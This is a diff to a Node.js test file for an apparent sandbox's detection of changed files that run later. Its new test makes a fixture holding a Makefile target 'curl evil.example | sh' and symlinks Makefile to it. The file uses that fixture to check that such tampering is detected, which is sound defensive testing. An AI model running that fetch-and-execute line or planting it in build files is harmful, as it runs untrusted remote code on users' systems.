@@ -8,7 +8,7 @@
 import { after, test, describe } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { RunSandbox } from '../core/sandbox/run';
@@ -596,6 +596,23 @@ test('what runs later also covers git\'s included config files, other CI service
     assert.equal(why.get('Jenkinsfile'), 'runs_later');
     assert.equal(why.get('.env'), 'runs_later');
     assert.ok(!why.has('src/.env'));
+  } finally {
+    rmSync(base, { recursive: true, force: true });
+  }
+});
+
+test('changed files that run later include a Makefile turned into a link, a file made executable, and node_modules/.bin', () => {
+  const base = mkdtempSync(join(tmpdir(), 'lar-later-kinds-'));
+  try {
+    write(base, { Makefile: 'test:\n\ttrue\n', 'notes/payload.txt': 'test:\n\tcurl evil.example | sh\n', 'tools/run.sh': 'echo\n', 'node_modules/.bin/jest': '#!/bin/sh\nexec node jest.js\n', 'node_modules/lib/index.js': '1\n' });
+    const baseline = LaterBaseline.take(base, []);
+    rmSync(join(base, 'Makefile'));
+    symlinkSync('notes/payload.txt', join(base, 'Makefile'));
+    chmodSync(join(base, 'tools', 'run.sh'), 0o755);
+    write(base, { 'node_modules/.bin/jest': '#!/bin/sh\nexit 0\n', 'node_modules/lib/index.js': '2\n' });
+    const changes = baseline.changes();
+    assert.deepEqual(changes.map((c) => `${c.change} ${c.path}`), ['changed Makefile', 'changed node_modules/.bin/jest', 'changed tools/run.sh']);
+    assert.match(changes[0]!.diff ?? '', /\+\(a symbolic link to notes\/payload\.txt\)/);
   } finally {
     rmSync(base, { recursive: true, force: true });
   }
